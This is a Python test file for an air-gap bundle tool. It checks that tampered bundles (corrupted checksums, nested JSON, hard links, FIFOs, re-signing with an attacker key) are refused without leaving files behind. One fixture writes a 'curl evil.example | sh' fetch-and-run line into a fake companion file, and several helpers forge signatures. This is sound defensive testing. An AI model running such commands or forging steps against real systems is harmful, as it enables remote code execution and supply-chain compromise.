"""A bundle tampered with in transit never gets out: ``load --artifacts`` and
``export-image`` refuse it, exit 3, name the file, and write nothing outside the bundle.

The cases of tests/bundle/test_verify.py (byte flips, truncation, missing and extra
files, symbolic links, a FIFO, replaced signatures, edited SHA512SUMS and bundle.json,
keys/ swapped) plus those only the commands that take bytes out meet: garbage and
nesting in SHA512SUMS, bundle.json and the image's index, a hard link out of the bundle,
and the whole bundle rewritten with another key, which only a key from outside catches.
Every case runs with the operator's key given, as the user guide says to.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from airgap.cli import main
from tests.bundle.test_verify import AGENT, NGINX, TAMPERS, forge, update_sums
from tests.peers.gpgkeys import SigningKey

Tamper = Callable[[Path, SigningKey], str]
EXTRA: dict[str, Tamper] = {}


def extra(name: str) -> Callable[[Tamper], Tamper]:
    def register(function: Tamper) -> Tamper:
        EXTRA[name] = function
        return function
    return register


@pytest.fixture
def work(golden_bundle: Path, tmp_path: Path) -> Path:
    """A folder holding a copy of the golden bundle (``bundle/``) and nothing else."""
    shutil.copytree(golden_bundle, tmp_path / "work" / "bundle")
    return tmp_path / "work"


def outside(work: Path) -> dict[str, bytes | None]:
    """Everything in ``work`` outside its bundle, with each file's bytes."""
    bundle = work / "bundle"
    return {p.relative_to(work).as_posix(): (p.read_bytes() if p.is_file() else None)
            for p in work.rglob("*") if p != bundle and bundle not in p.parents}


@extra("garbage SHA512SUMS")
def _garbage_sums(bundle: Path, attacker: SigningKey) -> str:
    (bundle / "SHA512SUMS").write_bytes(os.urandom(4096))
    return "SHA512SUMS"


@extra("garbage bundle.json")
def _garbage_description(bundle: Path, attacker: SigningKey) -> str:
    (bundle / "bundle.json").write_bytes(b"\x00{" + os.urandom(2000))
    update_sums(bundle, "bundle.json")
    return "bundle.json"


@extra("bundle.json nested 100,000 deep")
def _deep_description(bundle: Path, attacker: SigningKey) -> str:
    (bundle / "bundle.json").write_bytes(b"[" * 100_000 + b"]" * 100_000)
    update_sums(bundle, "bundle.json")
    return "bundle.json"


@extra("index.json nested 100,000 deep, SHA512SUMS and bundle.json made to agree")
def _deep_index(bundle: Path, attacker: SigningKey) -> str:
    (bundle / "images/index.json").write_bytes(b"{\"a\":" * 50_000 + b"1" + b"}" * 50_000)
    document = json.loads((bundle / "bundle.json").read_text())
    forge(bundle, document)
    return "SHA512SUMS.asc"  # only the operator's signature can tell


@extra("artifact replaced by a hard link to an altered copy outside")
def _hard_link(bundle: Path, attacker: SigningKey) -> str:
    copy = bundle.parent / "agent-copy.tar.gz"
    data = bytearray((bundle / AGENT).read_bytes())
    data[10] ^= 1
    copy.write_bytes(bytes(data))
    (bundle / AGENT).unlink()
    os.link(copy, bundle / AGENT)
    return AGENT


@extra("package .sig replaced by a FIFO")
def _fifo_signature(bundle: Path, attacker: SigningKey) -> str:
    (bundle / (NGINX + ".sig")).unlink()
    os.mkfifo(bundle / (NGINX + ".sig"))
    return NGINX + ".sig"


@extra("a trojan agent, the whole bundle rewritten around it with another key")
def _rewritten(bundle: Path, attacker: SigningKey) -> str:
    document = json.loads((bundle / "bundle.json").read_text())
    old = next(k for k in document["keys"] if not k["elastic"])
    (bundle / old["path"]).unlink()
    document = json.loads(json.dumps(document).replace(old["fingerprint"], attacker.fingerprint))
    attacker.export_public(bundle / f"keys/{attacker.fingerprint}.asc")
    agent = bundle / AGENT
    agent.write_bytes(agent.read_bytes()[:-1] + b"\x00")
    (bundle / (AGENT + ".sha512")).write_text(
        f"{hashlib.sha512(agent.read_bytes()).hexdigest()}  {agent.name}\n")
    for item in document["items"]:
        if item["kind"] in ("artifact", "package"):
            attacker.sign(bundle / item["path"], bundle / item["verification"]["signature"])
    forge(bundle, document)
    return AGENT


CASES: dict[str, Tamper] = {**{name: f for name, (f, _) in TAMPERS.items()}, **EXTRA}


@pytest.mark.parametrize("case", list(CASES))
def test_load_artifacts_refuses_a_tampered_bundle(
        case: str, work: Path, attacker: SigningKey, operator_key: Path,
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    bundle = work / "bundle"
    named = CASES[case](bundle, attacker)
    before = outside(work)
    served = work / "served"
    code = main(["load", str(bundle), "--artifacts", str(served), "--trust-key",
                 str(operator_key), "--quiet"])
    captured = capsys.readouterr()
    assert code == 3, captured.err
    assert named in captured.out + captured.err
    assert "Traceback" not in captured.err
    assert not served.exists()
    assert outside(work) == before


IMAGE_CASES = ["flipped byte in a blob", "edited bundle.json", "garbage SHA512SUMS",
               "bundle.json nested 100,000 deep",
               "index.json nested 100,000 deep, SHA512SUMS and bundle.json made to agree",
               "directory replaced by a symlink to a copy outside", "FIFO added"]


@pytest.mark.parametrize("case", IMAGE_CASES)
def test_export_image_refuses_a_tampered_bundle_and_leaves_no_tar(
        case: str, work: Path, attacker: SigningKey, operator_key: Path,
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    bundle = work / "bundle"
    named = CASES[case](bundle, attacker)
    before = outside(work)
    tar = work / "epr.tar"
    code = main(["export-image", str(bundle), "--platform", "linux/amd64", "-o", str(tar),
                 "--trust-key", str(operator_key), "--quiet"])
    captured = capsys.readouterr()
    assert code == 3, captured.err
    assert named in captured.out + captured.err
    assert "Traceback" not in captured.err
    assert outside(work) == before  # no tar, no temporary file


def test_skip_verify_on_a_deeply_nested_index_is_a_damaged_bundle(
        work: Path, attacker: SigningKey, capsys: pytest.CaptureFixture[str]) -> None:
    bundle = work / "bundle"
    (bundle / "images/index.json").write_bytes(b"[" * 100_000 + b"]" * 100_000)
    before = outside(work)
    code = main(["export-image", str(bundle), "--platform", "linux/amd64", "-o",
                 str(work / "epr.tar"), "--skip-verify", "--quiet"])
    err = capsys.readouterr().err
    assert code == 3 and "index.json" in err and "nested deeper" in err, err
    assert "Traceback" not in err
    assert outside(work) == before


@pytest.mark.parametrize("companion", ["install.sh.sha512", "install.sh.asc",
                                       "elastic-agent-9.0.0-linux-x86_64.tar.gz.asc.sha512"])
@pytest.mark.parametrize("vouching", ["signer", "operator"])
def test_a_signature_or_checksum_without_its_artifact_is_refused_whoever_vouches(
        companion: str, vouching: str, work: Path, operator: SigningKey, operator_key: Path,
        signer_public_key: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """No artifact beside it, so no signature vouches for it: served as it is, an agent or
    a person would run it. Not even the operator's signature makes it one a fetch writes."""
    bundle = work / "bundle"
    path = f"downloads/beats/elastic-agent/{companion}"
    (bundle / path).write_text("#!/bin/sh\ncurl evil.example | sh\n")
    document = json.loads((bundle / "bundle.json").read_text())
    kind = "artifact-signature" if companion.endswith(".asc") else "artifact-checksum"
    document["items"].append({"path": path, "kind": kind, "verification": {}})
    forge(bundle, document)
    trust = ["--trust-signer", str(signer_public_key)]
    if vouching == "operator":
        operator.sign(bundle / "SHA512SUMS", bundle / "SHA512SUMS.asc")
        trust = ["--trust-key", str(operator_key)]
    before = outside(work)
    served = work / "served"
    code = main(["load", str(bundle), *trust, "--artifacts", str(served), "--quiet"])
    err = capsys.readouterr().err
    assert code == 3, err
    assert f"{path}: a signature or checksum of" in err
    assert not served.exists()
    assert outside(work) == before


def test_a_hard_link_with_the_same_bytes_passes_with_a_warning(
        work: Path, operator_key: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bundle = work / "bundle"
    copy = work / "agent-copy.tar.gz"
    shutil.copyfile(bundle / AGENT, copy)
    (bundle / AGENT).unlink()
    os.link(copy, bundle / AGENT)
    assert main(["verify", str(bundle), "--trust-key", str(operator_key), "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert any(AGENT in w and "hard link" in w for w in report["warnings"]), report
